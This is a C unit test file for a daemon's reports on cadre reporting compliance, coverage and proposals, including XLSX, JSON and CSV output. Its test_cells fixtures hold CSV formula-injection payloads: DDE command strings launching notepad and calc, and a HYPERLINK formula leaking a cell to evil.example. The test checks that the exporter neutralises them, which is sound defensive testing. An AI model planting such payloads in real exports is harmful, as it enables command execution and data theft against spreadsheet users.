/*
 * test_report.c: the central's reports (daemon/central/report*.c) on a
 * central built through the real merge code.
 *
 * A small province with a rotation in mid-quarter (one cadre's
 * assignment ends, another's starts), a merger at mid-year (old communes
 * with merged_into and valid_to, a new one from 01/07/2025), reports on
 * time, late, signed before the deadline but received after it, missing
 * and incomplete: every number of compliance, coverage, proposals and the
 * pack is checked against values worked out by hand below.  Then a
 * generated province (200 villages, 500 cadres, a year of visits and
 * reports) whose expectations the test computes from what it generated.
 * Finally the CLI's XLSX is checked as a workbook (unzip).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>
#include <sodium.h>

#include <coso/proto.h>

#include "../../daemon/central/store.h"
#include "../../daemon/central/emit.h"
#include "../../daemon/central/merge.h"
#include "../../daemon/central/report/report.h"
#include "../../daemon/central/report/report_out.h"

#include "central_fixture.h"

/* ---- the small province ---------------------------------------------------
 *
 *   20 (province) - 180 (district) - C1 - V1
 *                                  - C2 (to 30/06/2025, merged into CN) - V2
 *                                  - C3 (to 30/06/2025, merged into CN) - V3
 *                                  - CN (from 01/07/2025)
 *                                  - C4 (nobody, ever), C5
 *
 * Schedule: quarterly, due 15 days after the quarter, 5 days' grace
 * (Q2: due 15/07, grace to 20/07; Q3: due 15/10, grace to 20/10).
 *
 *   cb-a  V1 in charge 01/01 - 15/08 (rotation), sector KT
 *   cb-b  V1 in charge from 16/08
 *   cb-c  V2 in charge (the village stays under C2, so CN after 07/2025)
 *   cb-d  C2 in charge 01/01 - 30/06, then CN from 01/07
 *   cb-e  V3 monitor, sector KT
 *   cb-f  V3 support (not expected to report)
 *   cb-g  C5 in charge 01/01 - 15/05
 */

#define A 0
#define B 1
#define C 2
#define D 3
#define E 4
#define F 5
#define G 6

struct small {
	uint8_t prop_a[16], prop_d[16], prop_e[16];
};

static void
small_reference(struct fx *f)
{
	struct coso_body *b = body();
	int i;

	unit_op(b, "20", 1, NULL, 20200101, 0, NULL);
	unit_op(b, "180", 2, "20", 20200101, 0, NULL);
	unit_op(b, "C1", 3, "180", 20200101, 0, NULL);
	unit_op(b, "C2", 3, "180", 20200101, 20250630, "CN");
	unit_op(b, "C3", 3, "180", 20200101, 20250630, "CN");
	unit_op(b, "CN", 3, "180", 20250701, 0, NULL);
	unit_op(b, "C4", 3, "180", 20200101, 0, NULL);
	unit_op(b, "C5", 3, "180", 20200101, 0, NULL);
	unit_op(b, "V1", 4, "C1", 20200101, 0, NULL);
	unit_op(b, "V2", 4, "C2", 20200101, 0, NULL);
	unit_op(b, "V3", 4, "C3", 20200101, 0, NULL);
	for (i = 0; i < NDEV; i++) {
		cadre_op(b, f->d[i].cadre);
	}
	assign_op(b, "cb-a", "V1", NULL, 1, 20250101, 20250815);
	assign_op(b, "cb-a", NULL, "KT", 1, 20250101, 0);
	assign_op(b, "cb-b", "V1", NULL, 1, 20250816, 0);
	assign_op(b, "cb-c", "V2", NULL, 1, 20250101, 0);
	assign_op(b, "cb-d", "C2", NULL, 1, 20250101, 20250630);
	assign_op(b, "cb-d", "CN", NULL, 1, 20250701, 0);
	assign_op(b, "cb-e", "V3", NULL, 2, 20250101, 0);
	assign_op(b, "cb-e", NULL, "KT", 1, 20250101, 0);
	assign_op(b, "cb-f", "V3", NULL, 3, 20250101, 0);
	assign_op(b, "cb-g", "C5", NULL, 1, 20250101, 20250515);
	schedule_op(b, 1, 15, 5);
	push(f, &f->admin, b, T0, T0);
	coso_body_free(b);
}

/* Reports: (who, unit, period, complete, signed on, received on). */
static void
small_report(struct fx *f, int who, const char *unit, const char *period,
    int complete, int32_t signed_on, int32_t received_on)
{
	struct coso_body *b = body();

	report_op(b, unit, period, complete, signed_on);
	push(f, &f->d[who], b, ms_at(signed_on, 9), ms_at(received_on, 10));
	coso_body_free(b);
}

/* A visit with a proposal from it (and an outcome worth amount đồng). */
static void
small_visit(struct fx *f, int who, const char *unit, int32_t date,
    uint8_t prop[16], int64_t amount)
{
	struct coso_body *b = body();
	uint8_t v[16];

	visit_op(b, v, unit, date);
	if (prop != NULL) {
		proposal_op(b, prop, v, unit, date);
	}
	if (amount != 0) {
		outcome_op(b, v, amount);
	}
	push(f, &f->d[who], b, ms_at(date, 15), ms_at(date, 16));
	coso_body_free(b);
}

static void
small_province(struct fx *f, struct small *sm)
{
	struct coso_body *b;
	uint8_t v[16];

	small_reference(f);
	/* Q2: a on time, d on time (filed before the merger), e late past
	 * the grace, c and g missing. */
	small_report(f, A, "V1", "2025-Q2", 1, 20250705, 20250705);
	small_report(f, D, "C2", "2025-Q2", 1, 20250630, 20250630);
	small_report(f, E, "V3", "2025-Q2", 1, 20250801, 20250801);
	small_visit(f, D, "C2", 20250610, sm->prop_d, 0);
	/* Q3: a files at handover (on time), b late within the grace, c
	 * signed 14/10 offline and received 25/10, e on time but
	 * incomplete, d (CN) missing. */
	small_report(f, A, "V1", "2025-Q3", 1, 20250814, 20250814);
	small_report(f, B, "V1", "2025-Q3", 1, 20251018, 20251018);
	small_report(f, E, "V3", "2025-Q3", 0, 20251010, 20251010);
	small_visit(f, A, "V1", 20250720, sm->prop_a, 5000000);
	small_visit(f, E, "V3", 20250901, sm->prop_e, 0);
	/* c's report and, in the same sync, a visit signed on the device's
	 * clock 90 s behind the central's. */
	b = body();
	report_op(b, "V2", "2025-Q3", 1, 20251014);
	push(f, &f->d[C], b, ms_at(20251014, 9), ms_at(20251025, 10));
	visit_op(b, v, "V2", 20251025);
	push(f, &f->d[C], b, ms_at(20251025, 10) - 90000, ms_at(20251025, 10));
	coso_body_free(b);
	/* Responses: d's answered, e's resolved, a's open. */
	b = body();
	response_op(b, sm->prop_d, 1);
	response_op(b, sm->prop_e, 2);
	push(f, &f->admin, b, T0 + 1000, T0 + 1000);
	coso_body_free(b);
}

static const struct report_line *
line(const struct report_line *l, size_t n, const char *code)
{
	size_t i;

	for (i = 0; i < n; i++) {
		if (strcmp(l[i].code, code) == 0) {
			return &l[i];
		}
	}
	fail_msg("no line for %s", code);
	return NULL;
}

/* expected, received, on_time, late, in_grace, offline, missing,
 * complete, with_proposals, visits_with_proposals */
static void
counts_are(const struct report_counts *c, uint64_t exp, uint64_t rec,
    uint64_t ontime, uint64_t late, uint64_t grace, uint64_t offline,
    uint64_t missing, uint64_t complete, uint64_t props, uint64_t vprops)
{
	assert_int_equal(c->expected, exp);
	assert_int_equal(c->received, rec);
	assert_int_equal(c->on_time, ontime);
	assert_int_equal(c->late, late);
	assert_int_equal(c->in_grace, grace);
	assert_int_equal(c->offline_late, offline);
	assert_int_equal(c->missing, missing);
	assert_int_equal(c->pending, 0);
	assert_int_equal(c->complete, complete);
	assert_int_equal(c->with_proposals, props);
	assert_int_equal(c->visits_proposals, vprops);
}

static void
check_q3(struct fx *f)
{
	struct report_compliance *r = NULL;
	char err[REPORT_ERRMSG_MAX];
	size_t i;

	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", NULL, TODAY, &r, err), 0);
	assert_int_equal(r->default_schedule, 0);
	/* a, b, c, d (CN), e: f is support, g ended in May. */
	assert_int_equal(r->nitems, 5);
	counts_are(&r->total, 5, 4, 2, 1, 1, 1, 1, 3, 4, 2);
	counts_are(&line(r->cadres, r->ncadres, "cb-a")->c, 1, 1, 1, 0, 0, 0,
	    0, 1, 1, 1);
	counts_are(&line(r->cadres, r->ncadres, "cb-b")->c, 1, 1, 0, 1, 1, 0,
	    0, 1, 1, 0);
	counts_are(&line(r->cadres, r->ncadres, "cb-c")->c, 1, 1, 0, 0, 0, 1,
	    0, 1, 1, 0);
	counts_are(&line(r->cadres, r->ncadres, "cb-d")->c, 1, 0, 0, 0, 0, 0,
	    1, 0, 0, 0);
	counts_are(&line(r->cadres, r->ncadres, "cb-e")->c, 1, 1, 1, 0, 0, 0,
	    0, 0, 1, 1);
	assert_int_equal(r->ncadres, 5);
	/* After the merger V2 and V3 roll up to CN through C2 and C3. */
	counts_are(
	    &line(r->units, r->nunits, "CN")->c, 3, 2, 1, 0, 0, 1, 1, 1, 2, 1);
	counts_are(
	    &line(r->units, r->nunits, "C1")->c, 2, 2, 1, 1, 1, 0, 0, 2, 2, 1);
	counts_are(
	    &line(r->units, r->nunits, "V1")->c, 2, 2, 1, 1, 1, 0, 0, 2, 2, 1);
	counts_are(&line(r->units, r->nunits, "180")->c, 5, 4, 2, 1, 1, 1, 1,
	    3, 4, 2);
	counts_are(
	    &line(r->units, r->nunits, "20")->c, 5, 4, 2, 1, 1, 1, 1, 3, 4, 2);
	for (i = 0; i < r->nunits; i++) {
		assert_true(strcmp(r->units[i].code, "C2") != 0
		    && strcmp(r->units[i].code, "C3") != 0);
	}
	/* 20, 180, C1, CN, V1, V2, V3. */
	assert_int_equal(r->nunits, 7);
	for (i = 0; i < r->nitems; i++) {
		if (strcmp(r->items[i].cadre, "cb-c") == 0) {
			assert_int_equal(
			    r->items[i].status, REPORT_OFFLINE_LATE);
			assert_int_equal(r->items[i].submitted, 20251014);
			assert_int_equal(r->items[i].received, 20251025);
			assert_int_equal(r->items[i].due, 20251015);
			assert_int_equal(r->items[i].skew_ms, 90000);
		}
		if (strcmp(r->items[i].cadre, "cb-d") == 0) {
			assert_string_equal(r->items[i].unit, "CN");
			assert_int_equal(r->items[i].status, REPORT_MISSING);
		}
	}
	report_compliance_free(r);
	/* The CN subtree only. */
	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", "CN", TODAY, &r, err), 0);
	counts_are(&r->total, 3, 2, 1, 0, 0, 1, 1, 1, 2, 1);
	assert_int_equal(r->ncadres, 3); /* c, d, e */
	for (i = 0; i < r->nunits; i++) {
		assert_true(strcmp(r->units[i].code, "180") != 0);
	}
	report_compliance_free(r);
	/* Judged on 18/10/2025, d's report is not yet missing. */
	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", NULL, 20251018, &r, err), 0);
	assert_int_equal(r->total.missing, 0);
	assert_int_equal(r->total.pending, 1);
	report_compliance_free(r);
}

static void
check_q2_year(struct fx *f)
{
	struct report_compliance *r = NULL;
	char err[REPORT_ERRMSG_MAX];

	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q2", NULL, TODAY, &r, err), 0);
	/* a, c, d (C2), e, g. */
	counts_are(&r->total, 5, 3, 2, 1, 0, 0, 2, 3, 3, 1);
	/* Before the merger, V2 and d's report stay with C2. */
	counts_are(
	    &line(r->units, r->nunits, "C2")->c, 2, 1, 1, 0, 0, 0, 1, 1, 1, 1);
	counts_are(
	    &line(r->units, r->nunits, "C3")->c, 1, 1, 0, 1, 0, 0, 0, 1, 1, 0);
	counts_are(
	    &line(r->units, r->nunits, "C5")->c, 1, 0, 0, 0, 0, 0, 1, 0, 0, 0);
	report_compliance_free(r);
	/* The year: Q1 (all five of Q2's but nothing filed: 5 missing), Q2,
	 * Q3, Q4 (b, c, d, e; pending until 20/01/2026). */
	assert_int_equal(
	    report_compliance(rdb(f), "2025", NULL, TODAY, &r, err), 0);
	assert_int_equal(r->total.expected, 5 + 5 + 5 + 4);
	assert_int_equal(r->total.received, 3 + 4);
	assert_int_equal(r->total.missing, 5 + 2 + 1);
	assert_int_equal(r->total.pending, 4);
	report_compliance_free(r);
	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q5", NULL, TODAY, &r, err),
	    COSO_EINVAL);
	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", "nope", TODAY, &r, err),
	    COSO_EINVAL);
}

static void
check_coverage(struct fx *f)
{
	struct report_coverage *r = NULL;
	char err[REPORT_ERRMSG_MAX];

	assert_int_equal(
	    report_coverage(rdb(f), "2025-Q3", TODAY, &r, err), 0);
	assert_int_equal(r->ref, 20250930);
	assert_int_equal(r->nunassigned, 2);
	assert_string_equal(r->unassigned[0].code, "C4");
	assert_int_equal(r->unassigned[0].since, 0);
	assert_string_equal(r->unassigned[1].code, "C5");
	assert_int_equal(r->unassigned[1].since, 20250515);
	/* Assigned in Q3: CN, V1, V2, V3; visited: V1 (20/07), V3 (01/09)
	 * and so CN above V3; V2's visit is on 25/10. */
	assert_int_equal(r->nunvisited, 1);
	assert_string_equal(r->unvisited[0].code, "V2");
	assert_int_equal(r->unvisited[0].assignees, 1);
	report_coverage_free(r);
	/* Q4: V2's visit (25/10) counts for CN above it; V1 (b alone
	 * now) and V3 (e and f) are not visited. */
	assert_int_equal(
	    report_coverage(rdb(f), "2025-Q4", TODAY, &r, err), 0);
	assert_int_equal(r->ref, TODAY);
	assert_int_equal(r->nunvisited, 2);
	assert_string_equal(r->unvisited[0].code, "V1");
	assert_int_equal(r->unvisited[0].assignees, 1);
	assert_string_equal(r->unvisited[1].code, "V3");
	assert_int_equal(r->unvisited[1].assignees, 2);
	report_coverage_free(r);
}

static void
check_proposals(struct fx *f)
{
	struct report_proposals *r = NULL;
	char err[REPORT_ERRMSG_MAX];

	assert_int_equal(
	    report_proposals(rdb(f), NULL, -1, TODAY, &r, err), 0);
	assert_int_equal(r->nitems, 3);
	/* Oldest first: d's (C2, now CN, so to 180), a's (V1 to C1), e's
	 * (V3 under C3, now CN). */
	assert_string_equal(r->items[0].cadre, "cb-d");
	assert_int_equal(strlen(r->items[0].id), 32); /* for admin respond */
	assert_int_equal(strspn(r->items[0].id, "0123456789abcdef"), 32);
	assert_string_equal(r->items[0].route, "180");
	assert_int_equal(r->items[0].age_days, tdays(TODAY) - tdays(20250610));
	assert_int_equal(r->items[0].status, 1);
	assert_string_equal(r->items[1].cadre, "cb-a");
	assert_string_equal(r->items[1].route, "C1");
	assert_int_equal(r->items[1].age_days, tdays(TODAY) - tdays(20250720));
	assert_int_equal(r->items[1].status, 0);
	assert_string_equal(r->items[2].cadre, "cb-e");
	assert_string_equal(r->items[2].route, "CN");
	assert_int_equal(r->items[2].status, 2);
	report_proposals_free(r);
	assert_int_equal(report_proposals(rdb(f), NULL, 0, TODAY, &r, err), 0);
	assert_int_equal(r->nitems, 1);
	assert_string_equal(r->items[0].cadre, "cb-a");
	report_proposals_free(r);
	assert_int_equal(
	    report_proposals(rdb(f), "CN", -1, TODAY, &r, err), 0);
	assert_int_equal(r->nitems, 2);
	assert_string_equal(r->items[0].cadre, "cb-d");
	assert_string_equal(r->items[1].cadre, "cb-e");
	report_proposals_free(r);
}

static void
check_pack(struct fx *f)
{
	struct report_pack *r = NULL;
	char err[REPORT_ERRMSG_MAX];

	assert_int_equal(
	    report_pack(rdb(f), "2025-Q3", "KT", TODAY, &r, err), 0);
	assert_int_equal(r->nlines, 2);
	assert_string_equal(r->lines[0].cadre, "cb-a");
	assert_string_equal(r->lines[0].units, "V1");
	assert_int_equal(r->lines[0].visits, 1);
	assert_int_equal(r->lines[0].outcomes, 1);
	assert_int_equal(r->lines[0].amount, 5000000);
	assert_int_equal(r->lines[0].last_visit, 20250720);
	assert_int_equal(r->lines[0].reports_expected, 1);
	assert_int_equal(r->lines[0].reports_received, 1);
	assert_int_equal(r->lines[0].proposals_open, 1);
	assert_int_equal(r->lines[0].proposals_resolved, 0);
	assert_string_equal(r->lines[1].cadre, "cb-e");
	assert_int_equal(r->lines[1].visits, 1);
	assert_int_equal(r->lines[1].proposals_open, 0);
	assert_int_equal(r->lines[1].proposals_resolved, 1);
	assert_int_equal(r->nprops, 2);
	report_pack_free(r);
}

/* The CLI's XLSX: a valid zip whose first sheet has the numbers. */
static void
check_cli(struct fx *f)
{
	char cmd[1024], out[256];
	FILE *p;
	size_t n;

	snprintf(cmd, sizeof(cmd),
	    "./build/cosod central report compliance --db %s --period "
	    "2025-Q3 --today 27/11/2025 --output %s/c.xlsx && unzip -tq "
	    "%s/c.xlsx >/dev/null && unzip -p %s/c.xlsx "
	    "xl/worksheets/sheet1.xml | grep -o '<c r=\"[A-Z]*2\"><v>[0-9]*"
	    "</v>' | sed 's/.*<v>//; s/<.v>//' | tr '\\n' ' '",
	    f->db, f->dir, f->dir, f->dir);
	if (access("./build/cosod", X_OK) != 0) {
		skip();
	}
	assert_non_null(p = popen(cmd, "r"));
	n      = fread(out, 1, sizeof(out) - 1, p);
	out[n] = 0;
	assert_int_equal(pclose(p), 0);
	/* Row 2 is the province: expected 5, received 4, on time 2, late 1
	 * (1 in grace), offline 1, missing 1, pending 0, complete 3, with
	 * proposals 4, visits with proposals 2 (numbers only; the level
	 * column is text). */
	assert_string_equal(out, "5 4 2 1 1 1 1 0 3 4 2 ");
	/* Dates are dates: cb-a's due date (15/10/2025) is the serial
	 * number 45945 in a cell whose style shows dd/mm/yyyy, not text. */
	snprintf(cmd, sizeof(cmd),
	    "unzip -p %s/c.xlsx xl/worksheets/sheet3.xml | grep -o "
	    "'<c r=\"F2\" s=\"[0-9]*\"><v>45945</v>' | wc -l; "
	    "unzip -p %s/c.xlsx xl/styles.xml | grep -o "
	    "'formatCode=\"dd/mm/yyyy\"' | wc -l",
	    f->dir, f->dir);
	assert_non_null(p = popen(cmd, "r"));
	n      = fread(out, 1, sizeof(out) - 1, p);
	out[n] = 0;
	assert_int_equal(pclose(p), 0);
	assert_string_equal(out, "1\n1\n");
	/* The pack as XLSX: a valid workbook whose first sheet has cb-a's
	 * visit amount. */
	snprintf(cmd, sizeof(cmd),
	    "./build/cosod central report pack --db %s --period 2025-Q3 "
	    "--sector KT --today 27/11/2025 --output %s/p.xlsx && unzip -tq "
	    "%s/p.xlsx >/dev/null && unzip -p %s/p.xlsx "
	    "xl/worksheets/sheet1.xml | grep -c '<v>5000000</v>' && "
	    "unzip -p %s/p.xlsx xl/worksheets/sheet1.xml | grep -o "
	    "'<c r=\"G2\" s=\"[0-9]*\"><v>5000000</v>' | wc -l && "
	    "unzip -p %s/p.xlsx xl/styles.xml | grep -o "
	    "'formatCode=\"#,##0\"' | wc -l",
	    f->db, f->dir, f->dir, f->dir, f->dir, f->dir);
	assert_non_null(p = popen(cmd, "r"));
	n      = fread(out, 1, sizeof(out) - 1, p);
	out[n] = 0;
	assert_int_equal(pclose(p), 0);
	/* the amount a number shown with grouped thousands (#,##0) */
	assert_string_equal(out, "1\n1\n1\n");
	/* TEST_REPORT_KEEP=PATH keeps this database, to try the CLI on. */
	if (getenv("TEST_REPORT_KEEP") != NULL) {
		snprintf(cmd, sizeof(cmd), "sqlite3 %s \".backup '%s'\"",
		    f->db, getenv("TEST_REPORT_KEEP"));
		assert_int_equal(system(cmd), 0);
	}
}

static void
test_small(void **state)
{
	struct fx *f = *state;
	struct small sm;

	small_province(f, &sm);
	check_q3(f);
	check_q2_year(f);
	check_coverage(f);
	check_proposals(f);
	check_pack(f);
	check_cli(f);
}

/* c's offline_late report: the skew its sync's STATUS measured, or the
 * estimate from the batch when no STATUS of that sync is on record. */
static int64_t
skew_of_c(struct fx *f)
{
	struct report_compliance *r = NULL;
	char err[REPORT_ERRMSG_MAX];
	int64_t skew = -1;
	size_t i;

	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", NULL, TODAY, &r, err), 0);
	for (i = 0; i < r->nitems; i++) {
		if (strcmp(r->items[i].cadre, "cb-c") == 0) {
			assert_int_equal(
			    r->items[i].status, REPORT_OFFLINE_LATE);
			skew = r->items[i].skew_ms;
		}
	}
	report_compliance_free(r);
	return skew;
}

static void
clock_check(struct fx *f, uint64_t central_ms, int64_t skew)
{
	struct cstore_clock c = {.central_ms = central_ms,
	    .device_ms = (uint64_t) ((int64_t) central_ms - skew),
	    .hlc       = central_ms << 16};

	memcpy(c.key_id, f->d[C].id, 32);
	assert_int_equal(cstore_begin(f->s), COSO_OK);
	assert_int_equal(cstore_clock_add(f->s, &c), COSO_OK);
	assert_int_equal(cstore_commit(f->s), COSO_OK);
}

static void
test_measured_skew(void **state)
{
	struct fx *f = *state;
	struct small sm;
	uint64_t recv = ms_at(20251025, 10);

	small_province(f, &sm);
	/* No STATUS on record: the estimate from the batch. */
	assert_int_equal(skew_of_c(f), 90000);
	/* A STATUS of an earlier sync, two hours before: not this one's. */
	clock_check(f, recv - 2 * 3600000, 600000);
	assert_int_equal(skew_of_c(f), 90000);
	/* The STATUS of the sync that brought the report, 2 s before the
	 * PUSH: its measure is the figure. */
	clock_check(f, recv - 2000, 45000);
	assert_int_equal(skew_of_c(f), 45000);
	/* A STATUS after the report came (a later sync) is not. */
	clock_check(f, recv + 1000, -7000);
	assert_int_equal(skew_of_c(f), 45000);
}

/* ---- a generated province -------------------------------------------------
 *
 * 4 districts, 20 communes, 200 villages, 500 cadres (cadre i in charge
 * of village i % 200 all year).  Quarter q of cadre i: kind (i * 7 + q)
 * % 5: 0 on time, 1 late in the grace, 2 late after it, 3 signed in
 * time but received late, 4 none; complete unless (i + q) % 3 == 0.  One
 * visit per quarter, with a proposal when i % 4 == 0.  Schedule: none
 * (the default: due 10 days after the quarter, 5 days' grace).
 */

#define GV 200
#define GC 500

static void
gen_reference(struct fx *f, struct dev *admin)
{
	struct coso_body *b = body();
	char code[32], parent[32], cadre[32];
	int i;

	unit_op(b, "20", 1, NULL, 20200101, 0, NULL);
	for (i = 0; i < 4; i++) {
		snprintf(code, sizeof(code), "D%d", i);
		unit_op(b, code, 2, "20", 20200101, 0, NULL);
	}
	for (i = 0; i < 20; i++) {
		snprintf(code, sizeof(code), "K%02d", i);
		snprintf(parent, sizeof(parent), "D%d", i % 4);
		unit_op(b, code, 3, parent, 20200101, 0, NULL);
	}
	for (i = 0; i < GV; i++) {
		snprintf(code, sizeof(code), "V%03d", i);
		snprintf(parent, sizeof(parent), "K%02d", i % 20);
		unit_op(b, code, 4, parent, 20200101, 0, NULL);
	}
	push(f, admin, b, T0, T0);
	for (i = 0; i < GC; i++) {
		snprintf(cadre, sizeof(cadre), "g%03d", i);
		snprintf(code, sizeof(code), "V%03d", i % GV);
		cadre_op(b, cadre);
		assign_op(b, cadre, code, NULL, 1, 20250101, 0);
		if (i % 100 == 99) {
			push(f, admin, b, T0, T0);
		}
	}
	coso_body_free(b);
}

struct gen_expect {
	uint64_t kind[5], complete, vprops;
	uint64_t district[4][5];
};

static const int32_t q_last[] = {20250331, 20250630, 20250930, 20251231};

static void
gen_quarter(struct fx *f, struct dev *d, int i, int q, struct gen_expect *e)
{
	char unit[16], period[16];
	struct coso_body *b = body();
	int kind = (i * 7 + q) % 5, complete = (i + q) % 3 != 0;
	int32_t due = coso_date_add(q_last[q], 10), sign, recv;
	uint8_t v[16], p[16];

	snprintf(unit, sizeof(unit), "V%03d", i % GV);
	snprintf(period, sizeof(period), "2025-Q%d", q + 1);
	visit_op(b, v, unit, q_last[q] - 5);
	if (i % 4 == 0) {
		proposal_op(b, p, v, unit, q_last[q] - 5);
		e->vprops++;
	}
	push(f, d, b, ms_at(q_last[q] - 5, 8), ms_at(q_last[q] - 5, 9));
	e->kind[kind]++;
	e->district[(i % GV) % 20 % 4][kind]++;
	if (kind == 4) {
		coso_body_free(b);
		return;
	}
	e->complete += complete;
	sign = kind == 0 || kind == 3 ? due : coso_date_add(due, 1);
	recv = kind == 0 ? due
	    : kind == 1  ? coso_date_add(due, 5)
	                 : coso_date_add(due, 6);
	report_op(b, unit, period, complete, sign);
	push(f, d, b, ms_at(sign, 8), ms_at(recv, 20));
	coso_body_free(b);
}

static void
test_generated(void **state)
{
	struct fx *f                = *state;
	struct dev *devs            = calloc(GC, sizeof(*devs));
	struct merge_ctx m          = {f->s, f->central.key};
	struct report_compliance *r = NULL;
	struct gen_expect e         = {0};
	struct merge_out out;
	char err[REPORT_ERRMSG_MAX], cadre[32];
	const struct report_line *l;
	int i, q, k;

	assert_non_null(devs);
	assert_int_equal(cstore_begin(f->s), COSO_OK);
	for (i = 0; i < GC; i++) {
		snprintf(cadre, sizeof(cadre), "g%03d", i);
		dev_init(&devs[i], 5000u + (uint32_t) i, cadre);
		assert_int_equal(emit_device_key(&m, devs[i].pk, cadre,
		                     CSTORE_ROLE_FIELD, NULL, T0, &out),
		    COSO_OK);
	}
	assert_int_equal(cstore_commit(f->s), COSO_OK);
	gen_reference(f, &f->admin);
	for (i = 0; i < GC; i++) {
		for (q = 0; q < 4; q++) {
			gen_quarter(f, &devs[i], i, q, &e);
		}
	}
	assert_int_equal(
	    report_compliance(rdb(f), "2025", NULL, TODAY, &r, err), 0);
	assert_int_equal(r->default_schedule, 1);
	assert_int_equal(r->total.expected, GC * 4);
	assert_int_equal(r->total.on_time, e.kind[0]);
	assert_int_equal(r->total.late, e.kind[1] + e.kind[2]);
	assert_int_equal(r->total.in_grace, e.kind[1]);
	assert_int_equal(r->total.offline_late, e.kind[3]);
	/* Q4's due date (10/01/2026) is after TODAY: its missing ones are
	 * still pending. */
	assert_int_equal(r->total.missing + r->total.pending, e.kind[4]);
	assert_int_equal(r->total.complete, e.complete);
	assert_int_equal(r->total.visits_proposals, e.vprops);
	for (k = 0; k < 4; k++) {
		snprintf(cadre, sizeof(cadre), "D%d", k);
		l = line(r->units, r->nunits, cadre);
		assert_int_equal(l->c.on_time, e.district[k][0]);
		assert_int_equal(
		    l->c.late, e.district[k][1] + e.district[k][2]);
		assert_int_equal(l->c.offline_late, e.district[k][3]);
		assert_int_equal(
		    l->c.missing + l->c.pending, e.district[k][4]);
	}
	assert_int_equal(r->ncadres, GC);
	assert_int_equal(r->nunits, 1 + 4 + 20 + GV);
	report_compliance_free(r);
	for (i = 0; i < GC; i++) {
		coso_key_free(devs[i].key);
	}
	free(devs);
}

/* The JSON of the HTTP API has the same numbers. */
static void
test_json(void **state)
{
	struct fx *f = *state;
	struct small sm;
	struct report_compliance *r = NULL;
	char err[REPORT_ERRMSG_MAX];
	json_t *j, *t;

	small_province(f, &sm);
	assert_int_equal(
	    report_compliance(rdb(f), "2025-Q3", NULL, TODAY, &r, err), 0);
	assert_non_null(j = report_compliance_json(r));
	t = json_object_get(j, "total");
	assert_int_equal(
	    json_integer_value(json_object_get(t, "expected")), 5);
	assert_int_equal(
	    json_integer_value(json_object_get(t, "offline_late")), 1);
	assert_int_equal(json_array_size(json_object_get(j, "reports")), 5);
	assert_string_equal(
	    json_string_value(json_object_get(j, "period")), "2025-Q3");
	json_decref(j);
	report_compliance_free(r);
}

/* ---- output cells ---------------------------------------------------------
 */

/* The whole file at path (NUL added); *len its bytes. */
static char *
slurp(const char *path, size_t *len)
{
	FILE *fp = fopen(path, "rb");
	char *buf;

	assert_non_null(fp);
	assert_non_null(buf = malloc(1 << 16));
	*len      = fread(buf, 1, (1 << 16) - 1, fp);
	buf[*len] = 0;
	fclose(fp);
	return buf;
}

/* A proposal of 700 bytes of Vietnamese: every cell cut at a byte count
 * would land inside a character. */
static void
long_text(char *out, size_t n)
{
	static const char word[] = "Đề nghị hỗ trợ làm đường bê tông ";
	size_t k                 = 0;

	while (k + sizeof(word) < n) {
		memcpy(out + k, word, sizeof(word) - 1);
		k += sizeof(word) - 1;
	}
	out[k - 1] = 0; /* no trailing space: the cell needs no quotes */
}

/* Cells that a spreadsheet would run as formulas (= + - @, TAB- and
 * CR-led) are written as text in CSV; numbers, negative ones too, stay
 * numbers; JSON keeps the values as they are; nothing is cut in CSV or
 * JSON, and a text table wraps a long cell at spaces onto further lines
 * of its row. */
static void
test_cells(void **state)
{
	char dir[] = "/tmp/coso-cells-XXXXXX", path[64], text[720];
	struct report_prop p[2] = {
	    {"cb-a", "+cmd|' /C notepad'!A0", "\tV1",
	        "@SUM(1+1)*cmd|' /C calc'!A0",
	        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")", "C1",
	        "-2+3", 20250720, -5, 0, "0193aa000000700080000000000000a1"},
	    {"cb-b", "Nguyễn Văn An", "\rV2", "Thôn Nà Pàn", text, "C1",
	        "Xã Đào Viên", 20250101, 12, 2,
	        "0193aa000000700080000000000000b2"},
	};
	struct report_proposals r = {.today = TODAY, .items = p, .nitems = 2};
	char err[REPORT_ERRMSG_MAX], *buf, *line, *eol, want[2048];
	size_t len, n;
	json_t *j;

	(void) state;
	long_text(text, sizeof(text));
	assert_true(strlen(text) > 600);
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/p.csv", dir);
	assert_int_equal(report_write_proposals(&r, REPORT_CSV, path, err), 0);
	buf = slurp(path, &len);
	n   = (size_t) snprintf(want, sizeof(want),
	      "\xEF\xBB\xBFMã kiến nghị,Ngày,Số ngày,Trạng thái,Mã đơn vị,"
	        "Đơn vị,Cán bộ,Chuyển đến,Nội dung kiến nghị\r\n"
	        "0193aa000000700080000000000000a1,"
	        "20/07/2025,-5,Chưa trả lời,\"'\tV1\","
	        "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+cmd|' /C notepad'!A0\","
	        "\"'-2+3\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
	        "\"\"Bấm vào\"\")\"\r\n"
	        "0193aa000000700080000000000000b2,"
	        "01/01/2025,12,Đã giải quyết,\"'\rV2\",Thôn Nà Pàn,"
	        "Nguyễn Văn An,Xã Đào Viên,%s\r\n",
	      text);
	assert_true(n < sizeof(want));
	assert_int_equal(len, n);
	assert_memory_equal(buf, want, n);
	free(buf);

	/* JSON: the values unchanged, the long one whole. */
	assert_non_null(j = report_proposals_json(&r));
	assert_string_equal(
	    json_string_value(json_object_get(
	        json_array_get(json_object_get(j, "proposals"), 0), "text")),
	    p[0].text);
	assert_string_equal(
	    json_string_value(json_object_get(
	        json_array_get(json_object_get(j, "proposals"), 1), "text")),
	    text);
	assert_string_equal(
	    json_string_value(json_object_get(
	        json_array_get(json_object_get(j, "proposals"), 1), "id")),
	    p[1].id);
	json_decref(j);

	/* The table: valid UTF-8 throughout; the long text wraps at spaces
	 * in lines of at most 60 columns, nothing cut; control characters
	 * as spaces. */
	snprintf(path, sizeof(path), "%s/p.txt", dir);
	assert_int_equal(
